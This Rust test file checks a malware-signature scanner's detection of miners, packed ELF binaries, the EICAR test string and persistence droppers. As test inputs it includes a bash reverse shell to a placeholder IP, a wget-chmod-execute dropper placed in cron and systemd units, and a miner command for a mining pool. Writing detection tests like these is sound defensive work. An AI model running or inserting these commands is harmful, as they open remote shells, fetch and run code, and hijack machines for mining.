//! The examples of the sign files, and what is kept of a file.

use std::fs;
use std::path::Path;

use plimsoll_content::{Certainty, MalwareReader, certainty, malware_in, signs, signs_in, signs_in_script};
use plimsoll_engine::{FileBytes, FileReader, Piece};
use plimsoll_facts::image::{DamagedFacts, Format, RawFacts};

/// Stands within what other scanners would take for malware; it is taken out before the example is looked at.
const MARK: &str = "~~";

/// The values of a key of a sign's file.
fn values(id: &str, key: &str) -> Vec<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("signs").join(id.replace('-', "_") + ".sign");
    let text = fs::read_to_string(path).unwrap();
    let lines = text.lines().filter_map(|line| line.strip_prefix(key)?.strip_prefix(": "));
    lines.map(|line| line.replace(MARK, "").replace("\\n", "\n")).collect()
}

/// The signs of an example, in a file of each sort in which the sign counts.
fn seen(id: &str, example: &str) -> Vec<Vec<&'static str>> {
    let places = values(id, "in").remove(0);
    let files = places.split(", ").map(|place| match place {
        "program" => ("usr/bin/w", format!("{}{example}", library())),
        "script" => ("w.sh", format!("#!/bin/sh\n{example}")),
        "page" => ("w.php", format!("<?php {example}")),
        "configuration" => ("w.conf", example.to_owned()),
        _ => panic!("{place}"),
    });
    files.map(|(path, text)| ids(&FileBytes::whole(path, text.as_bytes()))).collect()
}

fn ids(file: &FileBytes<'_>) -> Vec<&'static str> {
    signs_in(file).into_iter().map(|fact| fact.sign.id).collect()
}

/// The header of an ELF library of 64 bits, with a segment for linking and sections. Source: elf(5).
fn library() -> String {
    let mut header = vec![0; 64 + 56];
    header[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    header[16] = 3;
    header[32] = 64;
    header[40] = 64;
    header[54] = 56;
    header[56] = 1;
    header[60] = 1;
    header[64] = 2;
    String::from_utf8(header).unwrap()
}

/// A program of 64 bits without sections and libraries, as packers make it, with this behind its header.
fn bare(rest: &[u8]) -> Vec<u8> {
    let mut program = library().into_bytes();
    program[16] = 2;
    program[40] = 0;
    program[60] = 0;
    program[64] = 1;
    program.extend(rest);
    program
}

#[test]
fn every_sign_sees_its_examples_wherever_it_counts() {
    let mut missed = Vec::new();
    for sign in signs() {
        for example in values(sign.id, "match") {
            for found in seen(sign.id, &example) {
                // A line of a timetable is one wherever it stands; commands of a shell stand in no configuration.
                let is_missed = !found.contains(&sign.id) && !sign.id.starts_with("dropper-");
                missed.extend(is_missed.then(|| format!("{}: {example}: {found:?}", sign.id)));
            }
            let in_script = signs_in_script(&example).iter().any(|fact| fact.sign.id == sign.id);
            assert!(in_script || !sign.id.starts_with("dropper-"), "{}: {example}", sign.id);
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn no_sign_sees_what_it_must_not() {
    let mut wrong = Vec::new();
    for sign in signs() {
        for example in values(sign.id, "reject") {
            let is_wrong = seen(sign.id, &example).iter().any(|found| found.contains(&sign.id));
            wrong.extend(is_wrong.then(|| format!("{}: {example}", sign.id)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_test_file_of_eicar_is_told_at_the_start_of_a_short_file_only() {
    let text = values("eicar", "text").remove(0);
    assert_eq!(text.len(), 68);
    let padded = format!("{text:<128}");
    for (file, expected) in [
        (text.clone(), true),
        (padded.clone(), true),
        (format!("{padded} "), false),
        (format!(" {text}"), false),
        (text[..67].to_owned(), false),
    ] {
        let found = ids(&FileBytes::whole("srv/any.name", file.as_bytes()));
        assert_eq!(found == ["eicar"], expected, "{file}");
    }
}

#[test]
#[ignore = "needs PLIMSOLL_CORPORA; .ci/run runs it"]
fn the_test_file_of_the_corpus_is_told() {
    let corpora = std::env::var("PLIMSOLL_CORPORA").unwrap();
    let digits = fs::read_to_string(Path::new(&corpora).join("corpora/image/secrets/eicar.hex")).unwrap();
    let digits: Vec<char> = digits.chars().filter(char::is_ascii_hexdigit).collect();
    let byte = |pair: &[char]| u8::from_str_radix(&pair.iter().collect::<String>(), 16).unwrap();
    let bytes: Vec<u8> = digits.chunks(2).map(byte).collect();
    assert_eq!(ids(&FileBytes::whole("srv/file", &bytes)), ["eicar"]);
}

#[test]
fn packed_programs_are_told_by_what_they_lack() {
    let noise = noise(1 << 16);
    for (bytes, expected) in [
        (bare(b"\0\0UPX!\x0d\x0c"), &["packed-upx"][..]),
        (bare(&noise), &["packed-unknown"]),
        (bare(&vec![0x48; 1 << 16]), &[]),
        // The packer itself, and a library with bytes without pattern.
        (format!("{}UPX!", library()).into_bytes(), &[]),
        ([library().as_bytes(), &noise].concat(), &[]),
    ] {
        assert_eq!(ids(&FileBytes::whole("usr/bin/w", &bytes)), expected);
    }
    let windows = FileBytes { format: Format::Pe, ..FileBytes::whole("w.exe", b"MZ\0\0UPX0\0\0\0\0UPX!") };
    assert_eq!(ids(&windows), ["packed-sections", "packed-upx"]);
}

/// Bytes without pattern, always the same. Source: George Marsaglia, "Xorshift RNGs".
fn noise(size: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()[4]
    };
    std::iter::repeat_with(next).take(size).collect()
}

/// How sure the signs of a file are.
fn sure(path: &str, text: &str) -> Option<Certainty> {
    certainty(signs_in(&FileBytes::whole(path, text.as_bytes())).iter().map(|fact| fact.sign))
}

#[test]
fn two_signs_are_sure_one_is_suspicious_and_a_word_is_nothing() {
    let program = library();
    for (path, text, expected) in [
        ("w", format!("{program}stratum+tcp://%s\0mining.subscribe\0"), Some(Certainty::Sure)),
        ("w", format!("{program}stratum+tcp://%s\0"), Some(Certainty::Suspicious)),
        ("w.sh", "./w -o stratum+tcp://xmr.nanopool.org:14433 -u x\n".to_owned(), Some(Certainty::Sure)),
        ("w.json", r#"{"donate-level": 1, "randomx": {}, "nicehash": false}"#.to_owned(), Some(Certainty::Suspicious)),
        ("w.sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1".to_owned(), Some(Certainty::Sure)),
        // Tools that watch programs name miners, and say what a clock's stratum is.
        ("monitor.py", "WATCHED = ['xmrig', 'postgres']\n".to_owned(), None),
        ("clock.conf", "stratum 10\npool pool.example\n".to_owned(), None),
        ("w", format!("{program}xmrig\0kinsing\0ethminer\0"), None),
    ] {
        assert_eq!(sure(path, &text), expected, "{path}: {text}");
    }
}

#[test]
fn timetables_and_units_are_read_as_commands() {
    let line = "wget -O /tmp/w http://get.example/w && chmod +x /tmp/w && /tmp/w";
    for (path, text) in [
        ("etc/cron.d/w", format!("* * * * * root {line}\n")),
        ("var/spool/cron/crontabs/root", format!("@reboot {line}\n")),
        ("etc/crontab", format!("# w\n5 4 * * *  root  {line}\n")),
        ("etc/cron.daily/w", format!("#!/bin/sh\n{line}\n")),
        ("etc/systemd/system/w.service", format!("[Service]\nExecStart=/bin/sh -c '{line}'\n")),
    ] {
        assert!(ids(&FileBytes::whole(path, text.as_bytes())).contains(&"dropper-runs"), "{path}");
    }
}

#[test]
fn what_is_kept_is_read_again_and_damage_is_told() {
    let text = format!("{}stratum+tcp://%s\0mining.subscribe\0", library());
    let mut facts = RawFacts::default();
    MalwareReader.read(&FileBytes::whole("w", text.as_bytes()), &mut facts);
    let kept: Vec<_> = malware_in(&facts).unwrap().into_iter().map(|fact| (fact.sign.id, fact.offset)).collect();
    assert_eq!(kept, [("stratum-address", 120), ("stratum-method", 137)]);
    let data = facts.data.take().unwrap();
    for length in 1..data.len() {
        let facts = RawFacts { data: Some(data[..length].into()), ..RawFacts::default() };
        assert_eq!(malware_in(&facts).unwrap_err(), DamagedFacts, "{length}");
    }
    let mut unknown = RawFacts::default();
    unknown.keep(&[("w", 0_u64)].as_slice());
    assert_eq!(malware_in(&unknown).unwrap_err(), DamagedFacts);
    assert!(malware_in(&RawFacts::default()).unwrap().is_empty());
}

#[test]
fn a_large_program_is_seen_in_pieces() {
    let program = library();
    let rest = [
        Piece { offset: 1 << 30, bytes: b"stratum+tcp://%s\0" },
        Piece { offset: (1 << 30) + 8, bytes: b"tcp://%s\0mining.subscribe" },
    ];
    let file = FileBytes { rest: &rest, size: 1 << 31, ..FileBytes::whole("w", program.as_bytes()) };
    let found: Vec<_> = signs_in(&file).into_iter().map(|fact| (fact.sign.id, fact.offset)).collect();
    assert_eq!(found, [("stratum-address", 1 << 30), ("stratum-method", (1 << 30) + 17)]);
}

#[test]
fn this_program_shows_no_signs_but_those_of_these_tests() {
    let program = fs::read(std::env::current_exe().unwrap()).unwrap();
    let found = ids(&FileBytes::whole("w", &program));
    for id in ["mining-pool-list", "miner-donation", "browser-miner", "preload-guarded", "packed-upx-words"] {
        assert!(signs().iter().any(|sign| sign.id == id) && !found.contains(&id), "{found:?}");
    }
}
